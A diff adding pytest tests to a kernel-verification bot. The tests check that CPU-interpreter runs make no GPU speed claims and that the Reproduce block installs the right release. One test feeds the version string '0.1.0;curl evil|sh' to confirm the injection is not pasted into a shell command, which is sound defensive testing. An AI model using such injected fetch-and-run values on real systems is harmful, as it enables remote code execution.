@@ -13,6 +13,7 @@ from typing import Any
 import pytest
 from test_bot_artifact import ALLOWED, H200, demo_results
 
+import kernelpro
 from kernelpro.bot.artifact import CurvePoint, Finding, Results, WorkloadTiming, load_results
 from kernelpro.bot.body import (
     BODY_LIMIT,
@@ -345,3 +346,91 @@ def test_a_malformed_programmer_record_is_refused(tmp_path: Path) -> None:
 
     with pytest.raises(ArtifactError, match="programmer.requests"):
         load_results(_edited(tmp_path, bad), allowed_files=ALLOWED)
+
+
+# --------------------------------------------------------------------------- issue 24: no speed claim without a GPU
+
+_NOT_A_CLAIM = re.compile(r"Other shapes may be slower or faster")
+"""The body's one sentence with "faster" that claims nothing (it says what was not measured)."""
+
+
+def _claims_speed(text: str) -> list[str]:
+    """The lines of ``text`` that call something faster."""
+    return [line for line in _NOT_A_CLAIM.sub("", text).splitlines() if re.search(r"(?i)\bfaster\b", line)]
+
+
+def _on_cpu(results: Results) -> Results:
+    """The recorded H200 run as if timed in Triton's CPU interpreter (the demo's device), with a
+    base-branch comparison the runner read as "faster": every speed word must go."""
+    from kernelpro.bot.artifact import BaseBranch
+
+    t = dataclasses.replace(results.targets[0], gpu_timings=False, hardware="cpu (Triton interpreter)", stage1=None,
+                            base_branch=BaseBranch("PASSED", 0.8, 0.75, 0.85, "faster"))
+    return dataclasses.replace(results, targets=(t,))
+
+
+def test_a_cpu_runs_pr_body_claims_no_speed(gpu: Results) -> None:
+    cpu = _on_cpu(gpu)
+    b = body(cpu)
+    assert _claims_speed(b) == []
+    assert "## kernelpro: verified kernels for #7 (CPU interpreter, GPU speed unknown)" in b
+    assert "### `swiglu`: verified correct; 3.55x in Triton's CPU interpreter, not a GPU timing" in b
+    assert "`swiglu` verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing." in b  # lead
+    assert "| `swiglu` | verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing |" in b
+    assert "**These timings are not GPU timings.**" in b
+    # With a model's patch too: the first line says what was verified, not "measured it faster".
+    m = render_body(cpu, pr_number=7, head_sha=SHA, run_url=RUN, kernelpro_version="0.1.0", programmer="llm",
+                    model="m", model_written=("swiglu",))
+    assert _claims_speed(m) == [] and "kernelpro verified it correct" in m
+    # A GPU run still says so, everywhere.
+    g = body(gpu)
+    for text in ("## kernelpro: faster kernels for #7", "### `swiglu`: 3.55x faster",
+                 "`swiglu` **3.55x** faster, verified.", "| `swiglu` | **3.55x** faster, verified |",
+                 "at least 1.03x faster than the PR's kernel"):
+        assert text in g, text
+    assert "measured it faster and correct" in render_body(
+        gpu, pr_number=7, head_sha=SHA, run_url=RUN, kernelpro_version="0.1.0", programmer="llm", model="m",
+        model_written=("swiglu",))
+
+
+def test_a_cpu_runs_job_summary_claims_no_speed(gpu: Results) -> None:
+    s = render_job_summary(_on_cpu(gpu), ("swiglu",))
+    assert _claims_speed(s) == [] and "not GPU timings" in s
+    assert "| `swiglu` | verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing | 16 |" in s
+    assert "**3.55x** faster, verified" in render_job_summary(gpu)
+
+
+def test_a_cpu_runs_fork_comment_claims_no_speed(gpu: Results) -> None:
+    from kernelpro.bot.body import render_comment
+    from kernelpro.bot.publish import _fork_comment
+
+    cpu = _on_cpu(gpu)
+    c = _fork_comment(cpu, cpu.patch, 7, head_sha=SHA, run_url=RUN)
+    assert _claims_speed(c) == [], _claims_speed(c)
+    assert "cannot push to" in c and "**These timings are not GPU timings.**" in c
+    assert "1.25x the base's speed in the CPU interpreter" in c  # the base-branch cell: a ratio, not a verdict
+    g = _fork_comment(gpu, gpu.patch, 7, head_sha=SHA, run_url=RUN)
+    assert "kernelpro makes `swiglu` 3.55x faster" in g and "| faster, verified |" in g
+    # The fork state's own lead: "faster" only when told the winners were timed on a GPU.
+    assert "**kernelpro found a faster kernel**" in render_comment("fork", pr=7, patch="", summary="", gpu=True)
+    assert _claims_speed(render_comment("fork", pr=7, patch="", summary="", gpu=False)) == []
+
+
+def test_the_reproduce_block_installs_the_recorded_kernelpro(gpu: Results) -> None:
+    """The repro block starts by installing the kernelpro that produced the results: the source of
+    the release tag `v<recorded version>` of the repository the example workflow's `uses:` lines name
+    (an archive URL, not `git+...@tag`, which reads as an e-mail address: tests/test_bot_trust.py)."""
+    workflow = (Path(__file__).resolve().parents[1] / "examples" / "workflows" / "kernelpro.yml").read_text()
+    (repo,) = set(re.findall(r"uses: ([^/@\s`]+/kernelpro)@", workflow))
+    t = dataclasses.replace(gpu.targets[0], kernelpro_version="0.0.9")  # not this kernelpro's version
+    b = body(dataclasses.replace(gpu, targets=(t,)))
+    repro = b.split("<details><summary>Reproduce</summary>", 1)[1].split("</details>", 1)[0]
+    install = f'python -m pip install "kernelpro[engine] @ https://github.com/{repo}/archive/refs/tags/v0.0.9.tar.gz"'
+    assert repro.startswith("\n\n```bash\n" + install)  # first, before the commands that need it
+    assert repro.index(install) < repro.index("gh run download") < repro.index("kernelpro evaluate")
+    # A recorded version that is not a release version is not pasted into a shell command.
+    bad = dataclasses.replace(t, kernelpro_version="0.1.0;curl evil|sh")
+    b = body(dataclasses.replace(gpu, targets=(bad,)))
+    repro = b.split("<details><summary>Reproduce</summary>", 1)[1].split("</details>", 1)[0]
+    assert "curl evil" not in repro
+    assert f"/archive/refs/tags/v{kernelpro.__version__}.tar.gz\"   # the results record no release version" in repro
